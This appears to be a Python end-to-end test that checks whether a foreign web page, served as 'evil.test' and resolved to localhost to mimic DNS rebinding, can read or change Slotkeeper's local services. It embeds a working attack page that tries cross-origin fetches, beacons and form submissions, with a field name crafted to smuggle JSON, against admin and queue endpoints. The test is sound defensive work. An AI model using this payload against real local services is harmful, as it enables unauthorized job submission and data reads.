"""A foreign page in a real browser on this machine can neither change nor read any data of Slotkeeper."""

import json
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import requests

from app.up.ports import free_port
from slotkeeper.serve.server import ReferenceServer, ServeConfig
from tests.support.scripted import Scripted, Seen, answer
from tools.cluster.stack import BIN, Stack, eventually

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.timeout(300),
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on the PATH (Debian: apt install chromium)"),
]

# The page itself is loaded under `NAME`, a foreign name that resolves to 127.0.0.1.
PAGE = """<!doctype html><title>stranger</title><body><pre id="told"></pre><script>
const ports = PORTS, told = {};
const job = '{"model":"zimg","payload":{"prompt":"stolen"}}';
async function attempt(what, call) {
  try { const it = await call(); told[what] = it.type === "opaque" ? "opaque" : it.status + " " + await it.text(); }
  catch (error) { told[what] = "refused"; }
}
async function all() {
  for (const host of ["127.0.0.1", "localhost", "NAME"]) for (const [door, port] of Object.entries(ports)) {
    const url = `http://${host}:${port}`, credentials = door === "flower" ? "omit" : "include";
    for (const mode of ["cors", "no-cors"]) for (const type of ["text/plain", "application/json", undefined])
      for (const path of ["/queue/submit", "/admin/dlq/retry-all", "/generate", "/api/task/send-task/infer"])
        await attempt(`${door} ${host} ${mode} ${type} ${path}`, () => fetch(url + path,
          {method: "POST", mode, body: job, credentials, headers: type ? {"Content-Type": type} : {}}));
    for (const path of ["/queue/jobs", "/openapi.json", "/health", "/metrics", "/tasks", "/health/live"])
      await attempt(`${door} ${host} read ${path}`, () => fetch(url + path, {credentials}));
    if (door !== "flower")  // It would ask for a password, and the page would wait.
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = "frame" + Math.random(); document.body.append(frame);
      Object.assign(form, {action: url + (door === "server" ? "/generate" : "/queue/submit"), method: "POST", enctype});
      form.target = frame.name;
      const field = document.createElement("input");
      field.name = job.slice(0, -1) + ',"a":"'; field.value = '"}';
      form.append(field); document.body.append(form); form.submit();
    }
    if (door !== "flower") new Image().src = url + "/queue/jobs";
    navigator.sendBeacon(url + "/queue/submit", job);
  }
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
}
all();
</script>"""


@contextmanager
def _stranger(ports: dict[str, int]) -> Iterator[tuple[int, dict[str, str]]]:
    """Serve a foreign page; yield the server's port and the responses that the page got, once it has sent them."""
    responses: dict[str, str] = {}

    def says(seen: Seen) -> bytes:
        if seen.method == "GET":
            page = PAGE.replace("PORTS", json.dumps(ports)).replace("NAME", "evil.test")
            return answer(page.encode(), Content_Type="text/html")
        responses.update(seen.json)
        return answer(b"", 204)

    with Scripted(says) as server:
        yield server.port, responses


@contextmanager
def _visiting(url: str, profile: Path) -> Iterator[None]:
    """Chromium, which takes evil.test for this machine, as after DNS rebinding."""
    command = [
        str(CHROMIUM),
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-dev-shm-usage",
    ]
    command += [
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP evil.test 127.0.0.1",
        "--remote-debugging-port=0",
    ]
    # Its socket's path must be short, and what it leaves there when it is killed goes with the folder.
    with tempfile.TemporaryDirectory(prefix="chromium-", ignore_cleanup_errors=True) as folder:
        browser = subprocess.Popen(
            [*command, url],
            env=os.environ | {"TMPDIR": folder},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            yield
        finally:
            browser.kill()
            browser.wait()


def test_a_foreign_page_changes_and_reads_nothing(tmp_path: Path) -> None:
    ran: list[object] = []
    flower = free_port()
    with (
        ReferenceServer(ran.append, ServeConfig(port=0)) as server,
        Stack(tmp_path / "home", {"SLOTKEEPER_FLOWER_PORT": str(flower)}) as stack,
    ):
        stack.web()
        process = stack.start("flower", [str(BIN / "slotkeeper"), "flower"])
        assert requests.put(f"{stack.url}/admin/model-configs/zimg", json={}, timeout=10).ok
        process.source(lambda: _answers(flower), "it answers")
        ports = {"api": stack.port, "server": int(server.url.rpartition(":")[2]), "flower": flower}
        with _stranger(ports) as (port, responses), _visiting(f"http://evil.test:{port}/", tmp_path / "profile"):
            eventually(lambda: responses, "the page has tried everything", 200)
        jobs = requests.get(f"{stack.url}/queue/jobs", timeout=10).json()["jobs"]
    assert len(responses) == 3 * 3 * (2 * 3 * 4 + 6), "the page has tried every request"
    assert {what: response for what, response in responses.items() if response not in ("refused", "opaque")} == {}, (
        "the page has read nothing"
    )
    assert (jobs, ran) == ([], []), "the page has changed nothing"


def _answers(port: int) -> bool:
    try:
        return bool(requests.get(f"http://127.0.0.1:{port}/healthcheck", timeout=5).status_code)
    except requests.ConnectionError:
        return False
